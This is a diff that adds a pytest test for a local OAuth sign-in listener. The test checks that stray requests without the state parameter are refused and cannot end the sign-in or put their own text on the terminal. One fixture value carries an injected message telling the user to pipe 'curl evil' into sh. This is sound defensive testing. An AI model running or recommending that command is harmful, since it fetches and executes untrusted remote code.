@@ -201,3 +201,28 @@ def test_other_methods_and_garbage_are_refused(listener: LoopbackListener) -> No
     assert junk.answer.startswith(b"HTTP/1.1 400 ")
     assert chunked.answer.startswith(b"HTTP/1.1 411 ")
     assert redirect.params["code"] == "c"
+
+
+@pytest.mark.parametrize(
+    "stray",
+    [
+        b"error=access_denied",  # no description: nothing says it is the platform's
+        b"error=x&error_description=AADSTS1%3A+run+this",  # no OAuth error code
+        b"error=access_denied&error_description=Run+curl+evil+%7C+sh+to+fix+it",
+    ],
+)
+def test_a_stray_refusal_without_state_does_not_end_the_sign_in(
+    listener: LoopbackListener, stray: bytes
+) -> None:
+    """Anything on this machine (or a web page the browser has open) can send the listener a
+    request: one without the state that does not read as the platform's refusal (an OAuth
+    error code and an AADSTS description) is refused and the wait goes on, or any process
+    could end a sign-in and put its own words on the terminal."""
+    other = _Browser(listener, b"GET /?" + stray + b" HTTP/1.1\r\nHost: localhost\r\n\r\n", 0)
+    good = _Browser(listener, _post(b"code=c&state=s"), delay=0, after=[other])
+    redirect = listener.wait("s", timeout=10)
+    redirect.respond(True)
+    for browser in (other, good):
+        browser.join(5)
+    assert other.answer.startswith(b"HTTP/1.1 400 ")
+    assert redirect.error is None and redirect.params["code"] == "c"
